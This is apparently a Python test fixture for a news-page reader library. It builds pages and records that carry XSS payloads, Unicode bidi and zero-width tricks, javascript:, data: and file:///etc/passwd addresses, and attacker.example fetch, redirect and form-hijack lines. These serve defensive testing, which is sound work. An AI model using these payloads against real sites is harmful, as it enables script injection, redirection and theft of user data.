"""Pages by somebody who means harm: what ran of them would call ``window.ran``, and what they fetched is seen."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from hashlib import sha256
from html import escape

import msgspec

from reportedly import Page, Reading, read

_RUN = "window.ran(1)"

PAYLOADS = {
    "script": f"<script>{_RUN}</script>",
    "handler": f'"><img src=x onerror={_RUN}>',
    "single": f"'><svg onload={_RUN}>",
    "unquoted": f" autofocus onfocus={_RUN} tabindex=1 x=",
    "textarea": f"</textarea></title></style></noscript><script>{_RUN}</script>",
    "template": "{{7*7}}${7*7}{%raw%}{#x#}<%=7*7%>[[7*7]]",
    "svg": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s /><script>{_RUN}</script></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "link": f"<a href=javascript:{_RUN}>x</a>",
    "fetch": "<img src=https://attacker.example/seen><link rel=stylesheet href=https://attacker.example/seen.css>",
    "meta": "<meta http-equiv=refresh content='0;url=https://attacker.example/gone'><base href=https://attacker.example>",
    "comment": f"--><!--><script>{_RUN}</script>",
    "cdata": f"]]><script>{_RUN}</script>",
    "twice": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;",
    "form": "</form><form action=https://attacker.example><input name=csrf autofocus>",
    "json": f'"}}]</script><script>{_RUN}</script>',
    "backtick": f"`${{{_RUN}}}`",
}

TRICKS = {
    "override": "‮gnp.exe said the mayor",
    "isolates": "⁧⁦⁨⁧ never closed",
    "embedding": "‫‪‫ never closed either",
    "zero-width": "s​a‌f‍e⁠﻿" * 20,
    "combining": "Z" + "̸͍͙̤͇̗̠͚̝̱̭" * 20,
    "tall": "ཱཱཱིིུུུ" * 20,
    "variation": "a" + "︎" * 100,
    "separators": "line paragraph\x0bvertical\x85next",
    "surrogate-like": "\U000e0001\U000e0020" * 20 + "\ufffe\uffff",
    "one word": "w" * 600,
}

ADDRESSES = {
    "javascript": f"javascript:{_RUN}",
    "data": f"data:text/html,<script>{_RUN}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "upper": f"JaVaScRiPt:{_RUN}",
    "tab": f"java\tscript:{_RUN}",
    "quote": f'https://courier.example/"onmouseover="{_RUN}',
    "credentials": "https://courier.example@attacker.example/",
    "file": "file:///etc/passwd",
}


def article(payload: str, *, address: str | None = None, name: str = "Norvik Courier") -> bytes:
    """A page that has a payload everywhere a page can have one."""
    shown = escape(payload)
    stated = json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": f"Tunnel {payload}",
            "datePublished": "2024-03-14",
            "author": [{"@type": "Person", "name": f"Ada {payload}"}],
            "publisher": {"@type": "Organization", "name": f"{name} {payload}"},
            "articleSection": payload,
            "keywords": [payload, "tunnel"],
        }
    ).replace("</", "<\\/")
    link = f'<link rel="canonical" href="{escape(address)}">' if address else ""
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Tunnel {shown} | {name} {shown}</title>
<meta property="og:site_name" content="{name} {shown}">{link}<script type="application/ld+json">{stated}</script></head>
<body><main><article><h1>Tunnel {shown}</h1><p class="standfirst">{shown} it was said.</p>
<p class="byline">By Ada {shown}</p><figure><img src="x.jpg"><figcaption>{shown}</figcaption></figure>
<p>“The tunnel {shown} is safe,” said Kari Brekke {shown}, the chief of {shown} Construction, on 14 March 2024.</p>
<p>According to {shown}, some 40 {shown} pumps had failed in London. A source told {shown} that “{shown}”.</p>
<p>The Road Safety Authority {shown} reportedly denied {shown}. “{shown},” said the mayor, Anne Vik.</p>
<aside class="related"><a href="javascript:{_RUN}">{shown}</a></aside><p class="topics"><a href="/t">{shown}</a></p>
</article></main></body></html>""".encode()


def many_blocks(count: int = 300) -> bytes:
    """A page of very many short paragraphs, a claim in each."""
    said = "".join(f"<p>“Pump {number} failed,” said Kari Brekke.</p>" for number in range(count))
    return f"<!doctype html><html><head><title>Pumps</title></head><body><h1>Pumps</h1>{said}</body></html>".encode()


def endless(letters: int = 2_000) -> bytes:
    """A page whose quote is one word without end, as base64 in a text is."""
    said = f"<p>“{'w' * letters},” said Kari Brekke.</p>"
    return f"<!doctype html><html><head><title>Word</title></head><body><h1>A word</h1>{said}</body></html>".encode()


def pages() -> Iterator[tuple[str, bytes]]:
    """Each page, with a file name that is hostile too; a page bears several payloads, for reading one takes long."""
    for some in batched(PAYLOADS, 3):
        payload = " ".join(PAYLOADS[kind] for kind in some)
        yield f"{' '.join(some)} {payload}.html".replace("/", "∕")[:120], article(payload)
    for some in batched(TRICKS, 2):
        yield f"{' '.join(some)}.html", article(" ".join(TRICKS[kind] for kind in some))
    for kind, address in ADDRESSES.items():
        yield f"address {kind}.html", article(f"of {kind}", address=address)
    yield "endless.html", endless()
    yield "null\u2400.html", article("nu\0ll \x01\x02\x1b[31m")
    yield "blocks.html", many_blocks()


def batched(names: Iterable[str], size: int) -> Iterator[list[str]]:
    """Names, some at a time."""
    rest = list(names)
    while rest:
        some, rest = rest[:size], rest[size:]
        yield some


def readings() -> Iterator[Reading]:
    """Readings that no reader of ours made: payloads in every name that a Reading has."""
    payload = " ".join(PAYLOADS.values()) + TRICKS["override"] + TRICKS["isolates"]
    made = read(Page(data=article("of water"), source="water.html"))
    for number, address in enumerate(ADDRESSES.values()):
        data = msgspec.to_builtins(made)
        report = data["report"]
        report["id"] = sha256(str(number).encode()).hexdigest()
        report |= {"address": address, "headline": payload, "publisher": payload, "standfirst": payload}
        report |= {"bylines": [payload], "section": [payload], "tags": [payload], "related": [payload]}
        report |= {"captions": [payload], "credits": [payload], "topics": [{"name": payload, "count": 3}]}
        report |= {"dateline": payload, "language": payload}
        for entity in data["entities"]:
            entity |= {"name": f"{entity['name']} {payload}", "role": payload, "affiliation": payload}
            entity["aliases"] = [payload]
        for claim in data["attributions"]:
            claim["via"] = [{"name": payload, "kind": "outlet", "entity": None}]
        for figure in data["figures"]:
            figure |= {"counts": payload, "unit": payload[:40]}
        for place in data["places"]:
            place |= {"name": payload, "gazetteer_id": payload}
        data["refusals"] = [{"stage": "page", "code": payload[:40], "start": None, "end": None, "detail": payload}]
        yield msgspec.convert(data, Reading)
